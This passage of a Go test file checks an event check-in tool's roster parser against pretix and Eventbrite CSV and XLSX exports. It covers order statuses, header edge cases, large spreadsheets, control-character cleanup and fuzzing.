		checkResult(t, res, wantResult{format: roster.Generic, sep: ',', excluded: map[string]int{},
			people: []checkin.Person{{ID: "P1", Name: "Ada Lovelace", Category: "attendee", Code: "U-AAAA1111"}}})
	})
	t.Run("UnknownHeader", func(t *testing.T) {
		h := strings.TrimPrefix(header.String(), "id,name,category,code,")
		res, err := roster.Parse(strings.NewReader(h+"\n"+strings.Repeat("x,", extra-1)+"x\n"), fileName, demo.Event(), roster.Options{})
		checkRefused(t, res, err, fileName+":1: ")
	})
	// A value in the header row's last column (XFD) makes the sheet
	// 16,384 columns wide; the empty rows down to the last person must
	// not each cost that width. Allocation, not time, is measured, so the
	// check does not depend on the machine.
	t.Run("XLSXWideHeaderEmptyRows", func(t *testing.T) {
		const lastRow, maxMB = 2000, 64
		header := make([]any, 16384)
		copy(header, []any{"id", "name", "category", "code"})
		header[len(header)-1] = "note"
		rows := make([][]any, lastRow)
		rows[0], rows[1] = header, []any{"P1", "Ada Lovelace", "attendee", "U-AAAA1111"}
		rows[lastRow-1] = []any{"P2", "Grace Hopper", "attendee", "U-BBBB2222"}
		data := mustXLSX(t, xlsxSheet{"Attendees", rows})
		var before, after runtime.MemStats
		runtime.ReadMemStats(&before)
		res := mustParse(t, data, xlsxName, demo.Event(), roster.Options{})
		runtime.ReadMemStats(&after)
		if len(res.People) != 2 {
			t.Errorf("read %d people, want 2", len(res.People))
		}
		if mb := (after.TotalAlloc - before.TotalAlloc) >> 20; mb > maxMB {
			t.Errorf("reading a %d-byte workbook allocated %d MB; want at most %d", len(data), mb, maxMB)
		}
	})
	t.Run("RowWiderThanHeader", func(t *testing.T) {
		res, err := roster.Parse(strings.NewReader("id,name,category,code\n"+row.String()+"\n"), fileName, demo.Event(), roster.Options{})
		checkRefused(t, res, err, fileName+":2: ", fmt.Sprintf("%d fields, but the header has 4", extra+4))
	})
}

// pretixAPIHeader is the header the pretix API client gives FromRows.
var pretixAPIHeader = []string{"Order code", "Position ID", "Attendee name", "Attendee name: Title", "Attendee name: Given name",
	"Attendee name: Family name", "Product", "Status", "Secret", "E-mail", "Company", "Add-on to"}

// pretixAPIRows are positions as the client turns them into rows: an
// add-on takes its parent's name, and a position cancelled on its own
// is "canceled" in a paid order.
var pretixAPIRows = [][]string{
	{"ABC12", "1", "Ada Lovelace", "", "Ada", "Lovelace", "Conference Ticket – Regular", "paid", "k4m9c8v3", "ada@example.org", "Analytical Engines", ""},
	{"ABC12", "2", "Ada Lovelace", "", "Ada", "Lovelace", "Workshop: Go Fuzzing", "paid", "p3r5t6v1", "ada@example.org", "Analytical Engines", "1"},
	{"ABC12", "3", "Charles Babbage", "", "Charles", "Babbage", "Conference Ticket – Regular", "canceled", "h7j9kx2m", "ada@example.org", "", ""},
	{"DEF34", "1", "Grace Hopper", "", "Grace", "Hopper", "Conference Ticket – Student", "pending", "z8x6c4v2", "grace@example.org", "", ""},
	{"GHI56", "1", "Alan Turing", "", "Alan", "Turing", "Speaker", "expired", "a1s2d3f4", "alan@example.org", "", ""},
	{"JKL78", "1", "", "", "", "", "Volunteer Pass", "paid", "q9w8e7r6", "crew@example.org", "", ""},
}

func TestFromRowsPretixAPI(t *testing.T) {
	ada := checkin.Person{ID: "ABC12-1", Name: "Ada Lovelace", Category: "attendee", Code: "k4m9c8v3", Email: "ada@example.org",
		Company: "Analytical Engines"}
	workshop := checkin.Person{ID: "ABC12-2", Name: "Ada Lovelace", Category: "workshop", Code: "p3r5t6v1", Email: "ada@example.org",
		Company: "Analytical Engines"}
	charles := checkin.Person{ID: "ABC12-3", Name: "Charles Babbage", Category: "attendee", Code: "h7j9kx2m", Email: "ada@example.org"}
	grace := checkin.Person{ID: "DEF34-1", Name: "Grace Hopper", Category: "attendee", Code: "z8x6c4v2", Email: "grace@example.org"}
	alan := checkin.Person{ID: "GHI56-1", Name: "Alan Turing", Category: "speaker", Code: "a1s2d3f4", Email: "alan@example.org"}
	volunteer := checkin.Person{ID: "JKL78-1", Name: "(no name) · Volunteer · order JKL78", Category: "volunteer", Code: "q9w8e7r6",
		Email: "crew@example.org"}
	for _, tc := range []struct {
		name string
		opt  roster.Options
		want wantResult
	}{
		{"Default", roster.Options{}, wantResult{
			format: roster.Pretix, nameless: 1,
			excluded: map[string]int{"Status: canceled": 1, "Status: pending": 1, "Status: expired": 1},
			people: []checkin.Person{ada, workshop, revoked(charles, "cancelled order"), revoked(grace, "unpaid order"),
				revoked(alan, "expired order"), volunteer},
		}},
		{"IncludePending", roster.Options{IncludePending: true}, wantResult{
			format: roster.Pretix, nameless: 1, pending: 1,
			excluded: map[string]int{"Status: canceled": 1, "Status: expired": 1},
			people:   []checkin.Person{ada, workshop, revoked(charles, "cancelled order"), grace, revoked(alan, "expired order"), volunteer},
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			res, err := roster.FromRows("pretix", pretixAPIHeader, pretixAPIRows, MustConferenceEvent(t), tc.opt)
			if err != nil {
				t.Fatalf("FromRows: %v", err)
			}
			checkResult(t, res, tc.want)
		})
	}
	t.Run("ErrUnknownStatus", func(t *testing.T) {
		rows := slices.Clone(pretixAPIRows)
		rows[1] = slices.Clone(rows[1])
		rows[1][7] = "refunded"
		res, err := roster.FromRows("pretix", pretixAPIHeader, rows, MustConferenceEvent(t), roster.Options{})
		checkRefused(t, res, err, "pretix:3, column 8 (Status): ", `"refunded"`)
	})
}

// A roster read from an export and written as Usher's own keeps who is
// refused and why, in the revoked column, and the stand-in names.
func TestWriteParseKeepsRevoked(t *testing.T) {
	ev := MustConferenceEvent(t)
	first := mustParse(t, mustReadExport(t, "pretix-checkin-list-paid.csv"), fileName, ev, roster.Options{})
	var b bytes.Buffer
	if err := roster.Write(&b, first.People); err != nil {
		t.Fatalf("Write: %v", err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	revokedCol := slices.Index(recs[0], "revoked")
	if revokedCol < 0 || recs[3][revokedCol] != "unpaid order" {
		t.Errorf("written roster %q: Grace's row does not say \"unpaid order\" in column revoked", recs)
	}
	again := mustParse(t, b.Bytes(), fileName, ev, roster.Options{})
	checkResult(t, again, wantResult{format: roster.Generic, sep: ',', excluded: map[string]int{}, people: first.People})
}

// A seed is a file of these tests and the event it is read against.
type seed struct {
	data       []byte
	conference bool // MustConferenceEvent, else the demo event
}

// exportSeeds are the files of these tests, for FuzzParse.
func exportSeeds(tb testing.TB) (seeds []seed) {
	add := func(data []byte, conference bool) { seeds = append(seeds, seed{data, conference}) }
	for _, f := range []string{"pretix-checkin-list.csv", "pretix-checkin-list-paid.csv", "pretix-order-positions.csv"} {
		add(mustReadExport(tb, f), true)
	}
	add(mustReadExport(tb, "eventbrite-attendee-summary.csv"), false)
	if cp, err := charmap.Windows1252.NewEncoder().Bytes([]byte(pretixExcelEurope)); err == nil {
		add(cp, true)
	}
	for _, c := range statusCases {
		add([]byte(c.csv()), c.format == roster.Pretix)
	}
	add([]byte("sep=;\n"+strings.ReplaceAll(ebHeader, ",", ";")+"\n"), false)
	add(mustXLSX(tb, xlsxSheet{"Attendees", ebXLSXRows}), false)
	return seeds
}

// FuzzParse checks that Parse, whatever the bytes and options, never
// panics; refuses with EINVALID naming the file; and accepts only a
// roster the store can use, whose counters agree with its people.
func FuzzParse(f *testing.F) {
	for _, s := range exportSeeds(f) {
		f.Add(s.data, s.conference, false)
		f.Add(s.data, s.conference, true)
	}
	f.Fuzz(func(t *testing.T, data []byte, conference, includePending bool) {
		ev := demo.Event()
		if conference {
			ev = MustConferenceEvent(t)
		}
		res, err := roster.Parse(bytes.NewReader(data), fileName, ev, roster.Options{IncludePending: includePending})
		if err != nil {
			if checkin.ErrorCode(err) != checkin.EINVALID || !strings.HasPrefix(checkin.ErrorMessage(err), fileName) {
				t.Fatalf("error %v: want EINVALID naming %s", err, fileName)
			}
			return
		}
		ids, codes := map[string]bool{}, map[string]bool{}
		refused, nameless := 0, 0
		for i, p := range res.People {
			if p.ID == "" || p.Name == "" || p.Code == "" || !ev.Reaches(p.Category) {
				t.Fatalf("person %d cannot be checked in: %+v", i, p)
			}
			if ids[p.ID] || codes[roster.FoldCode(p.Code)] {
				t.Fatalf("person %d repeats id %q or code %q", i, p.ID, p.Code)
			}
			ids[p.ID], codes[roster.FoldCode(p.Code)] = true, true
			if p.Revoked != "" {
				refused++
			}
			if strings.HasPrefix(p.Name, "(no name) · ") {
				nameless++
			}
		}
		excluded := 0
		for _, n := range res.Excluded {
			excluded += n
		}
		if res.Format != roster.Generic && excluded != refused {
			t.Fatalf("Excluded counts %d people, %d are refused", excluded, refused)
		}
		if res.Nameless > nameless || res.Pending > len(res.People)-refused || !includePending && res.Pending != 0 {
			t.Fatalf("Nameless %d, Pending %d for %d people, %d refused", res.Nameless, res.Pending, len(res.People), refused)
		}
	})
}

// A heading may repeat in a column Usher does not read (a pretix
// question titled like another column), not in one it reads; a status read
// from two columns counts once, under the first that makes the ticket
// invalid; a ticket with one column for id and code that is empty is
// one problem, not two.
func TestHeaderAndStatusEdges(t *testing.T) {
	ev := MustConferenceEvent(t)
	res, err := roster.Parse(strings.NewReader("Order code,Attendee name,Product,Secret,Company,Comment,Comment\n"+
		"ABC12,Ada Lovelace,Volunteer Pass,sec1,Engines,a question,asked twice\n"), fileName, ev, roster.Options{})
	if err != nil || len(res.People) != 1 || res.People[0].Company != "Engines" {
		t.Errorf("a repeated unread heading: %+v, %v", res, err)
	}
	res, err = roster.Parse(strings.NewReader("id,name,category,code,name\nP1,Ada,volunteer,U-A1,Ada\n"), fileName, ev, roster.Options{})
	checkRefused(t, res, err, fileName+":1, column 5: ", `"name"`, "twice")

	both := "Order code,Position ID,Attendee name,Product,Secret,Status,Paid\n" +
		"ABC12,1,Ada Lovelace,Volunteer Pass,sec1,canceled,No\n" +
		"ABC12,2,Bo Byte,Volunteer Pass,sec2,pending,No\n"
	for _, tc := range []struct {
		opt      roster.Options
		excluded map[string]int
		pending  int
		reasons  []string
	}{
		{roster.Options{}, map[string]int{"Status: canceled": 1, "Status: pending": 1}, 0, []string{"cancelled order", "unpaid order"}},
		{roster.Options{IncludePending: true}, map[string]int{"Status: canceled": 1}, 1, []string{"cancelled order", ""}},
	} {
		res, err := roster.Parse(strings.NewReader(both), fileName, ev, tc.opt)
		if err != nil {
			t.Fatal(err)
		}
		if !reflect.DeepEqual(res.Excluded, tc.excluded) || res.Pending != tc.pending {
			t.Errorf("%+v: excluded %v, pending %d; want %v, %d", tc.opt, res.Excluded, res.Pending, tc.excluded, tc.pending)
		}
		for i, want := range tc.reasons {
			if got := res.People[i].Revoked; got != want {
				t.Errorf("%+v: %s revoked %q, want %q", tc.opt, res.People[i].ID, got, want)
			}
		}
	}
	res, err = roster.Parse(strings.NewReader("Order code,Attendee name,Product,Secret\nABC12,Ada,Volunteer Pass,\n"), fileName, ev, roster.Options{})
	checkRefused(t, res, err, "code is empty")
	if err != nil && strings.Contains(err.Error(), "id is empty") {
		t.Errorf("an empty secret reported twice: %v", err)
	}
}

// For an API's changes (Options.SetAside), a bad row is set aside with
// the id and the reason its status gives, the rest is read, and control
// characters are taken out of names rather than refusing the row.
func TestSetAside(t *testing.T) {
	ev := MustConferenceEvent(t)
	header := []string{"Order code", "Position ID", "Attendee name", "Product", "Status", "Secret", "E-mail", "Company"}
	rows := [][]string{
		{"ABC12", "1", "Ada Lovelace", "Volunteer Pass", "paid", "sec1", "", ""},
		{"ABC12", "2", "Bo Byte", "Rocket Ticket", "canceled", "sec2", "", ""},
		{"DEF34", "1", "Mallory\x01\x1b Smith", "Volunteer Pass", "paid", "sec3", "", "Evil\x00 Corp"},
		{"GHI56", "1", "Cy Pher", "Rocket Ticket", "paid", "sec4", "", ""},
	}
	if _, err := roster.FromRows("pretix", header, rows, ev, roster.Options{}); checkin.ErrorCode(err) != checkin.EINVALID {
		t.Fatalf("without SetAside: %v, want the read refused", err)
	}
	res, err := roster.FromRows("pretix", header, rows, ev, roster.Options{SetAside: true})
	if err != nil {
		t.Fatal(err)
	}
	var ids []string
	for _, p := range res.People {
		ids = append(ids, p.ID+"="+p.Name+"|"+p.Company)
	}
	if want := []string{"ABC12-1=Ada Lovelace|", "DEF34-1=Mallory Smith|Evil Corp"}; !reflect.DeepEqual(ids, want) {
		t.Errorf("people %v, want %v", ids, want)
	}
	if res.Cleaned != 3 {
		t.Errorf("Cleaned %d, want 3", res.Cleaned)
	}
	if len(res.SetAside) != 2 || res.SetAside[0].ID != "ABC12-2" || res.SetAside[0].Revoked != "cancelled order" ||
		res.SetAside[1].ID != "GHI56-1" || res.SetAside[1].Revoked != "" || !strings.Contains(res.SetAside[1].Problem, `"Rocket Ticket"`) {
		t.Errorf("set aside %+v; want ABC12-2 (cancelled order) and GHI56-1 (valid), naming the product", res.SetAside)
	}
}

// The generic roster's revoked column holds a reason; a spreadsheet's
// "no" or FALSE there is not one, and is refused rather than denying
// everyone "no longer valid: no".
func TestRevokedColumnIsAReason(t *testing.T) {
	for _, v := range []string{"no", "FALSE", "0", "No"} {
		_, _, err := roster.Read(strings.NewReader("id,name,category,code,revoked\nP1,Ada,attendee,U-A1,"+v+"\n"), fileName, demo.Event())
		if checkin.ErrorCode(err) != checkin.EINVALID || !strings.Contains(err.Error(), "revoked column") {
			t.Errorf("revoked %q: %v, want a refusal", v, err)
		}
	}
	people, _, err := roster.Read(strings.NewReader("id,name,category,code,revoked\nP1,Ada,attendee,U-A1,refunded ticket\nP2,Bo,attendee,U-B2,\n"), fileName, demo.Event())
	if err != nil || people[0].Revoked != "refunded ticket" || people[1].Revoked != "" {
		t.Errorf("%+v, %v", people, err)
	}
}

// A barcode longer than 15 digits in a numeric cell cannot be trusted: a
// spreadsheet keeps 15 digits of a number for sure, so the code would be
// nobody's at the door. It is refused, saying how to keep the digits.
func TestXLSXLongNumberRefused(t *testing.T) {
	row := ebXLSXRow(7654321001, "Ada", "Lovelace", "General Admission", 1234567890123, 0, "Attending")
	row[8] = int64(7654321001123456789)
	data := mustXLSX(t, xlsxSheet{"Attendees", [][]any{ebXLSXHeader, row}})
	res, err := roster.Parse(bytes.NewReader(data), xlsxName, demo.Event(), roster.Options{})
	checkRefused(t, res, err, xlsxName+":2, column I (Barcode #): ", "more than 15 digits", "Text")
	// 15 digits in a number are exact, and read.
	row[8] = int64(765432100112345)
	data = mustXLSX(t, xlsxSheet{"Attendees", [][]any{ebXLSXHeader, row}})
	if res, err := roster.Parse(bytes.NewReader(data), xlsxName, demo.Event(), roster.Options{}); err != nil || res.People[0].Code != "765432100112345" {
		t.Errorf("a 15-digit number: %+v, %v", res, err)
	}
}

// The separator is sniffed from the header, past blank lines before it.
func TestSniffPastBlankLines(t *testing.T) {
	people, _, err := roster.Read(strings.NewReader("\n\r\n\nid;name;category;code\nP1;Ada, Countess;attendee;U-A1\n"), fileName, demo.Event())
	if err != nil || len(people) != 1 || people[0].Name != "Ada, Countess" {
		t.Errorf("%+v, %v", people, err)
	}
}

// A question titled "Status" in pretix's check-in list (which has no
// Position ID, and no status column of its own) is not read as one.
func TestPretixQuestionTitledStatus(t *testing.T) {
	res, err := roster.Parse(strings.NewReader("Order code,Attendee name,Product,Secret,Status\nABC12,Ada Lovelace,Volunteer Pass,sec1,Student\n"),
		fileName, MustConferenceEvent(t), roster.Options{})
	if err != nil || len(res.People) != 1 || res.People[0].Revoked != "" {
		t.Errorf("%+v, %v; want Ada, valid", res, err)
	}
}
